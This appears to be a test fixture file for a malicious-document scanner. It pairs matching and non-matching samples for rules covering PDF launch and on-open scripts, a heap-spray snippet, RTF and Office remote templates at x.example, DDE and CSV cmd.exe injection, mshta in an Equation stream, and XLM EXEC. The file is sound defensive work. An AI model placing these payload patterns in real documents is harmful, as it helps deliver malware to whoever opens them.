import { pdfWith, t, type RuleCases } from './case';

const ole = (...texts: (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    ...texts.map((text) => (typeof text === 'string' ? Buffer.from(text, 'utf16le') : text)),
  ]);
const oneNote = (...parts: Buffer[]): Buffer =>
  Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64), ...parts]);
const oneNoteFile = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex');
const relations = (type: string, target: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

const wordField = "<span style='mso-element:field-begin'></span>";

/** PDF, RTF, Office and OneNote. */
export const documents: RuleCases = {
  Pdf_Script_With_Embedded_File: {
    match: ['a.pdf', pdfWith('<< /EmbeddedFile /JS (this.exportDataObject({ cName: "a", nLaunch: 2 });) >>')],
    miss: ['a.pdf', pdfWith('<< /Type /Filespec /F (invoice.xml) /EF << >> /EmbeddedFile >>')],
  },
  Pdf_Launch_Action: {
    match: ['a.pdf', pdfWith('<< /S /Launch /Win << /F (cmd.exe) >> >>')],
    miss: ['a.pdf', pdfWith('<< /S /URI /URI (https://example.com/launch) >>')],
  },
  Pdf_Script_On_Open: {
    match: ['a.pdf', pdfWith('<< /OpenAction << /S /JavaScript /JS (eval(unescape("%61"))) >> >>')],
    miss: ['a.pdf', pdfWith('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>')],
  },
  Pdf_Script_Starts_Program: {
    match: ['script.js', t('this.exportData~Object({ cName: "a", nLau~nch: 2 });')],
    miss: ['script.js', 'app.launchURL("https://example.com/help", true);'],
  },
  Pdf_Script_Exploits_Reader: {
    match: ['a.pdf', pdfWith(t('<< /JS (var s = unes~cape("%u90~90%u90~90"); while (s.length < 0x40000) s += s;) >>'))],
    miss: ['a.pdf', pdfWith('<< /JS (var s = util.printf("%.2f", this.getField("sum").value);) >>')],
  },
  Rtf_Object_Updates_Itself: {
    match: ['a.rtf', '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}'],
    miss: ['a.rtf', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'],
    alsoMiss: [['a.rtf', '{\\rtf1 Write \\\\object\\\\objautlink\\\\objupdate\\{\\\\objdata 0105\\}}']],
  },
  Rtf_Embedded_Program: {
    match: ['a.rtf', '{\\rtf1{\\object{\\*\\objdata 5061636b61676500 61 2e65786500}}}'],
    miss: ['a.rtf', '{\\rtf1{\\object{\\*\\objdata 5061636b61676500 61 2e70646600}}}'],
  },
  Rtf_Broken_On_Purpose: {
    match: ['a.doc', '{\\rt0{\\object\\objemb{\\*\\objdata 0105}}}'],
    miss: ['a.doc', '{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}'],
  },
  Rtf_Remote_Template: {
    match: ['a.rtf', '{\\rtf1{\\*\\template http://x.example/t.dotm}}'],
    miss: [
      'a.rtf',
      '{\\rtf1{\\*\\template C:\\\\Templates\\\\letter.dotx}{\\field{\\*\\fldinst HYPERLINK "http://example.com"}}}',
    ],
  },
  Office_Macro_Runs_On_Open: {
    match: ['vbaProject.bin', ole('_VBA_PROJECT', Buffer.from('Document_Open'))],
    miss: ['a.doc', ole('WordDocument', Buffer.from('Document_Open'))],
  },
  Office_Remote_Template: {
    match: ['settings.xml.rels', relations('attachedTemplate', 'http://x.example/t.dotm')],
    miss: ['document.xml.rels', relations('hyperlink', 'http://example.com/t.dotm')],
  },
  Office_Dde_Command: {
    match: ['a.html', t(`${wordField} DDEAU~TO "c:\\\\windows\\\\cm~d.exe" "/k x"`)],
    miss: ['a.html', `${wordField} DATE \\@ "d MMMM yyyy"`],
    more: [['a.csv', t('name,=cm~d|" /k x"!A0')]],
    alsoMiss: [['a.html', t('<p>Fields such as DDEAU~TO "cm~d.exe" start programs.</p>')]],
  },
  Ole_Equation_Overflow: {
    match: ['Equation Native', Buffer.concat([Buffer.from('1c00000002000000', 'hex'), Buffer.from(t('msh~ta x'))])],
    miss: [
      'Equation Native',
      Buffer.concat([Buffer.from('1c00000002000000', 'hex'), Buffer.from('0301010300', 'hex')]),
    ],
    more: [['Equation Native', Buffer.concat([Buffer.from('030101030a0a01085a5a', 'hex'), Buffer.alloc(44, 0x41)])]],
  },
  Ole_Script_Moniker: {
    match: ['ole10native.bin', Buffer.from('0100000000c6afabec197fd211978e0000f8757e2a00', 'hex')],
    miss: ['ole10native.bin', Buffer.from('01000000000002ce020000000000c00000000000004600', 'hex')],
  },
  OneNote_Embedded_Program: {
    match: ['a.one', oneNote(oneNoteFile, Buffer.from('open.hta\0', 'utf16le'))],
    miss: ['a.one', oneNote(oneNoteFile, Buffer.from('photo.png\0', 'utf16le'))],
  },
  Xlm_Starts_Program: {
    match: ['a.slk', t('ID;PWXL;N;E\r\nC;X1;Y1;K0;EEX~EC("cmd")\r\n')],
    miss: ['a.slk', 'ID;PWXL;N;E\r\nC;X1;Y1;K0;ESUM(R1C1:R2C1)\r\n'],
  },
  Query_File_Fetches_Cells: {
    match: ['a.iqy', 'WEB\r\n1\r\nhttps://x.example/a.dat\r\n'],
    miss: ['a.txt', 'WEB\r\n1\r\nhttps://example.com/a.dat\r\n'],
  },
};
